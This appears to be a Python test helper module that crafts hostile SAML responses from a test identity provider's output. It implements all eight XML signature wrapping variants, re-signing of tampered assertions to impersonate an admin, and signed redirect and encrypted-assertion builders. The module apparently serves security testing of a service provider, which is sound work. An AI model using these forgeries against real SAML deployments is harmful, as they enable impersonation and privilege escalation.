"""Crafting hostile SAML responses from real ones the test IdP issued.

Signing is done by the libraries (python3-saml's ``add_sign`` on xmlsec), with
the IdP's own key where the attack needs a validly signed but wrong assertion,
or with another key.  The XML signature wrapping variants follow the catalogue
of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al., 2012).
"""

from __future__ import annotations

import base64
import copy
import datetime as dt
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any, TypeAlias
from urllib.parse import quote, unquote, urlsplit

import xmlsec
from lxml import etree
from onelogin.saml2.constants import OneLogin_Saml2_Constants as C
from onelogin.saml2.utils import OneLogin_Saml2_Utils
from xmlsec import constants as xc

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
XENC = "http://www.w3.org/2001/04/xmlenc#"
NS = {"samlp": SAMLP, "saml": SAML, "ds": DS, "xenc": XENC}
UPN = "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn"
GROUP = "http://schemas.xmlsoap.org/claims/Group"

Element: TypeAlias = Any  # lxml's _Element (lxml ships no type hints)


def parse(xml: bytes) -> Element:
    return etree.fromstring(xml)  # our own IdP's output


def dump(root: Element) -> bytes:
    return bytes(etree.tostring(root))


def assertion_of(root: Element) -> Element:
    found = root.find("saml:Assertion", NS)
    assert found is not None
    return found


def signature_of(element: Element) -> Element | None:
    return element.find("ds:Signature", NS)


def strip_signature(element: Element) -> Element:
    sig = signature_of(element)
    if sig is not None:
        element.remove(sig)
    return element


def saml_time(offset: float) -> str:
    when = dt.datetime.now(dt.UTC) + dt.timedelta(seconds=offset)
    return when.strftime("%Y-%m-%dT%H:%M:%SZ")


def sign(
    element: Element,
    key: Path,
    cert: Path,
    *,
    sha1: bool = False,
) -> Element:
    """``element`` (a Response or an Assertion) signed enveloped with ``key``."""
    signed = OneLogin_Saml2_Utils.add_sign(
        etree.tostring(element),
        key.read_text(),
        cert.read_text(),
        sign_algorithm=C.RSA_SHA1 if sha1 else C.RSA_SHA256,
        digest_algorithm=C.SHA1 if sha1 else C.SHA256,
    )
    return etree.fromstring(signed)


def resign_assertion(
    xml: bytes,
    key: Path,
    cert: Path,
    mutate: Callable[[Element, Element], None],
    *,
    sha1: bool = False,
) -> bytes:
    """Strip the assertion's signature, let ``mutate(response, assertion)``
    change anything, and sign the assertion again."""
    root = parse(xml)
    strip_signature(root)  # a response signature would no longer hold
    assertion = strip_signature(assertion_of(root))
    mutate(root, assertion)
    root.replace(assertion, sign(assertion, key, cert, sha1=sha1))
    return dump(root)


def set_subject(assertion: Element, upn: str, groups: tuple[str, ...] = ()) -> None:
    """Make the assertion speak of someone else (what an attacker wants)."""
    name_id = assertion.find("saml:Subject/saml:NameID", NS)
    assert name_id is not None
    name_id.text = upn
    for attribute in assertion.iterfind("saml:AttributeStatement/saml:Attribute", NS):
        values = attribute.findall("saml:AttributeValue", NS)
        if attribute.get("Name") == UPN:
            values[0].text = upn
        if attribute.get("Name") == GROUP and groups:
            values[0].text = groups[0]


def _evil_copy(assertion: Element, new_id: str = "_evil") -> Element:
    evil = copy.deepcopy(assertion)
    strip_signature(evil)
    evil.set("ID", new_id)
    set_subject(evil, "bob@corp.test", ("Intercom-Admins",))
    return evil


def xsw(variant: int, xml: bytes) -> bytes:
    """The signature wrapping attack ``variant`` (1-8) applied to a validly
    signed response: the signed original stays somewhere in the document, an
    unsigned assertion for an admin is where a careless SP looks."""
    root = parse(xml)
    if variant in (1, 2):
        # the Response is signed: the attacker builds a new Response around an
        # evil assertion and hides the signed original next to the signature
        original = copy.deepcopy(root)
        signature = signature_of(root)
        assert signature is not None, "XSW1/2 need a signed Response"
        evil_root = copy.deepcopy(root)
        evil_root.set("ID", "_evil_response")
        strip_signature(evil_root)
        old = assertion_of(evil_root)
        evil_root.replace(old, _evil_copy(old))
        new_sig = copy.deepcopy(signature)
        wrapped = strip_signature(original)
        if variant == 1:
            new_sig.append(wrapped)  # original Response inside the Signature
            evil_root.insert(1, new_sig)
        else:
            evil_root.insert(1, new_sig)
            evil_root.insert(1, wrapped)  # original Response detached before it
        return dump(evil_root)
    assertion = assertion_of(root)
    evil = _evil_copy(assertion)
    index = list(root).index(assertion)
    if variant == 3:  # evil assertion first, signed original after it
        root.insert(index, evil)
    elif variant == 4:  # signed original wrapped inside the evil assertion
        root.replace(assertion, evil)
        evil.append(assertion)
    elif variant == 5:
        # the signature moves into the evil assertion (which takes the original
        # ID); an unsigned copy of the original is appended at the end
        sig = signature_of(assertion)
        assert sig is not None
        evil.set("ID", assertion.get("ID", ""))
        evil.insert(1, copy.deepcopy(sig))
        original = strip_signature(copy.deepcopy(assertion))
        root.replace(assertion, evil)
        root.append(original)
    elif variant == 6:
        # like 5, with the original copy hidden inside the moved signature
        sig = signature_of(assertion)
        assert sig is not None
        moved = copy.deepcopy(sig)
        evil.set("ID", assertion.get("ID", ""))
        evil.insert(1, moved)
        moved.append(strip_signature(copy.deepcopy(assertion)))
        root.replace(assertion, evil)
    elif variant == 7:
        # the signed original inside an Extensions element, evil assertion after
        extensions = etree.Element(f"{{{SAMLP}}}Extensions")
        root.replace(assertion, extensions)
        extensions.append(assertion)
        root.append(evil)
    elif variant == 8:
        # evil assertion carrying the signature, the original (unsigned) inside
        # a ds:Object of that signature
        sig = signature_of(assertion)
        assert sig is not None
        moved = copy.deepcopy(sig)
        evil.set("ID", assertion.get("ID", ""))
        evil.insert(1, moved)
        obj = etree.SubElement(moved, f"{{{DS}}}Object")
        obj.append(strip_signature(copy.deepcopy(assertion)))
        root.replace(assertion, evil)
    else:
        raise ValueError(variant)
    return dump(root)


# -- the HTTP-Redirect binding (Single Logout) -----------------------------------


def deflate_b64(xml: bytes) -> str:
    """Raw DEFLATE + base64, the HTTP-Redirect encoding."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(compressor.compress(xml) + compressor.flush()).decode("ascii")


def inflate_b64(value: str) -> bytes:
    return zlib.decompress(base64.b64decode(value), -15)


def raw_parts(url: str) -> list[str]:
    """The query of ``url`` split into its raw ``name=value`` parts."""
    return urlsplit(url).query.split("&")


def raw_value(url: str, name: str) -> str:
    """The percent-decoded value of parameter ``name`` in ``url``."""
    (part,) = [p for p in raw_parts(url) if p.startswith(name + "=")]
    return unquote(part.split("=", 1)[1])


def sign_redirect(
    message_part: str, key: Path, *, relay_state: str | None = None, sig_alg: str = C.RSA_SHA256
) -> str:
    """A query string of the HTTP-Redirect binding: ``message_part`` (the raw
    ``SAMLRequest=...`` or ``SAMLResponse=...``), the RelayState, SigAlg and a
    Signature made with ``key`` the way an IdP signs (SAML bindings 3.4.4.1:
    over the encoded parts, in that order)."""
    parts = [message_part]
    if relay_state is not None:
        parts.append(f"RelayState={quote(relay_state, safe='')}")
    parts.append(f"SigAlg={quote(sig_alg, safe='')}")
    transform = xc.TransformRsaSha1 if sig_alg == C.RSA_SHA1 else xc.TransformRsaSha256
    signature = OneLogin_Saml2_Utils.sign_binary("&".join(parts), key.read_text(), transform)
    parts.append("Signature=" + quote(base64.b64encode(signature).decode("ascii"), safe=""))
    return "&".join(parts)


def redirect_query(kind: str, xml: bytes, key: Path, *, relay_state: str | None = None) -> str:
    """``xml`` as ``kind`` (SAMLRequest or SAMLResponse), deflated and signed
    with ``key`` (:func:`sign_redirect`)."""
    value = quote(deflate_b64(xml), safe="")
    return sign_redirect(f"{kind}={value}", key, relay_state=relay_state)


# -- encrypted assertions (made with the SP's public certificate) -------------------


def encrypt_assertion(root: Element, cert: Path, *, transport: str = "oaep") -> Element:
    """Replace the response's assertion by an EncryptedAssertion for the SP
    certificate ``cert`` (AES-128-CBC; key transport RSA-OAEP, or RSA PKCS#1
    v1.5 for ``transport="rsa15"``), as anyone holding the SP metadata can.
    Returns the EncryptedAssertion."""
    assertion = assertion_of(root)
    encrypted = etree.Element(f"{{{SAML}}}EncryptedAssertion")
    root.replace(assertion, encrypted)
    encrypted.append(assertion)  # encrypt_xml replaces it in place
    data = xmlsec.template.encrypted_data_create(
        root, xc.TransformAes128Cbc, type=xc.TypeEncElement, ns="xenc"
    )
    xmlsec.template.encrypted_data_ensure_cipher_value(data)
    key_info = xmlsec.template.encrypted_data_ensure_key_info(data, ns="dsig")
    method = xc.TransformRsaPkcs1 if transport == "rsa15" else xc.TransformRsaOaep
    encrypted_key = xmlsec.template.add_encrypted_key(key_info, method)
    xmlsec.template.encrypted_data_ensure_cipher_value(encrypted_key)
    manager = xmlsec.KeysManager()
    manager.add_key(xmlsec.Key.from_file(str(cert), xc.KeyDataFormatCertPem, None))
    context = xmlsec.EncryptionContext(manager)
    context.key = xmlsec.Key.generate(xc.KeyDataAes, 128, xc.KeyDataTypeSession)
    context.encrypt_xml(data, assertion)
    return encrypted
